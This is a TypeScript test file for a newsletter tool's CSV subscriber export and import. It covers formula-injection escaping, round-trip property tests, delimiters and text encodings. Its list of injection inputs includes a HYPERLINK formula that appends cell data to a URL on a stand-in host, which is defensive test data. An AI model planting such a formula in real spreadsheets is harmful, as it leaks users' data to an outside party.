import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import t from 'tap';
import { decodeTable } from '../../../server/cli/readers/decode-table.ts';
import { readRows } from '../../../server/cli/readers/import.ts';
import { cellOf, csvOptions, textOfCell } from '../../../server/lib/csv.ts';
import { writable } from '../../../server/lib/writable-text.ts';
import { subscriptionColumns } from '../../../server/readers/newsletters/subscribers/export.ts';

/** What spreadsheets run, or take for the beginning of what they run. */
const formulas = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=HYPERLINK("https://x.example?"&A1,"Ada")',
  '\u000b=1',
];

t.test('no cell begins as a formula', async (t) => {
  for (const text of formulas) t.match(cellOf(text), /^'/, JSON.stringify(text));
  for (const text of ['Ada', "O'Hara", "'quoted'", '1+1', 'ada@example.com', ''])
    t.equal(cellOf(text), text, 'others are as they were');
});

t.test('a text that begins with apostrophes is told from one that was written with one more', async (t) => {
  for (const text of [...formulas.slice(0, -1), "'=1", "''=1", "'Ada", "'", "'-"])
    t.equal(textOfCell(cellOf(text)), text, JSON.stringify(text));
});

const text = fc
  .array(fc.oneof(fc.constantFrom("'", '=', '+', '-', '@', '\t', ',', '"', ';', '＝'), fc.string()), {
    maxLength: 6,
  })
  .map((parts) => writable(parts.join('')));

t.test('what is exported is imported as it was, whatever the fields are', async (t) => {
  const row = fc.record(Object.fromEntries(subscriptionColumns.map((column) => [column, text])));
  fc.assert(
    fc.property(fc.array(row, { minLength: 1, maxLength: 4 }), (rows) => {
      // What is exported is trimmed when it is stored; a row of empty cells is no subscription.
      const stored = rows.map((each) =>
        Object.fromEntries(
          Object.entries(each).map(([name, value]) => [name, `x${value.trim()}`.slice(1).trim()]),
        ),
      );
      const some = stored.filter((each) => Object.values(each).some((value) => value !== ''));
      const file = stringify(some, { header: true, columns: [...subscriptionColumns], ...csvOptions });
      const read = some.length === 0 ? [] : readRows(file).rows.map(({ line: _, ...each }) => each);
      t.strictSame(
        read,
        some.map((each) => ({ ...each })),
      );
    }),
    { numRuns: 200, seed: 20_261_127 },
  );
});

const values = [
  'z@reader.example',
  'Zoë นก',
  'hk',
  'en',
  'dining',
  '2024-05-01T08:00:00Z',
  'a list',
  'a form',
];
const table = (delimiter: string, head: readonly string[] = subscriptionColumns) =>
  `${head.join(delimiter)}\r\n${values.join(delimiter)}\r\n`;
const nameIn = (text: string) => readRows(text).rows[0]?.name;

t.test(
  'a table is read with whatever a spreadsheet puts between its columns, and in whatever case',
  async (t) => {
    for (const delimiter of [',', ';', '\t'])
      t.equal(nameIn(table(delimiter)), 'Zoë นก', JSON.stringify(delimiter));
    t.equal(nameIn(`\ufeffsep=;\r\n${table(';')}`), 'Zoë นก');
    t.equal(
      nameIn(
        table(
          ';',
          subscriptionColumns.map((name) => name.toUpperCase().replace('_', ' ')),
        ),
      ),
      'Zoë นก',
    );
    t.throws(() => readRows('mail;name\nx;y\n'), /no column address; its columns are mail \| name/);
  },
);

t.test('a table is read in UTF-8 and UTF-16, and refused with a reason in other encodings', async (t) => {
  const text = table(',');
  const swapped = Buffer.from(`\ufeff${text}`, 'utf16le').swap16();
  for (const bytes of [
    Buffer.from(text),
    Buffer.from(`\ufeff${text}`),
    Buffer.from(`\ufeff${text}`, 'utf16le'),
    Buffer.from(text, 'utf16le'),
    swapped,
  ])
    t.equal(nameIn(decodeTable(bytes, 'list.csv')), 'Zoë นก');
  const windows = Buffer.from('Zo\u00eb', 'latin1');
  t.throws(() => decodeTable(windows, 'list.csv'), /list\.csv is not in UTF-8.*Windows-1252.*--encoding/);
  t.equal(decodeTable(windows, 'list.csv', 'windows-1252'), 'Zoë');
  t.throws(() => decodeTable(windows, 'list.csv', 'klingon'), /there is no encoding klingon/);
});

t.test('what is exported tells spreadsheets its encoding', async (t) => {
  t.equal(stringify([['Zoë']], csvOptions).codePointAt(0), 0xfeff);
});
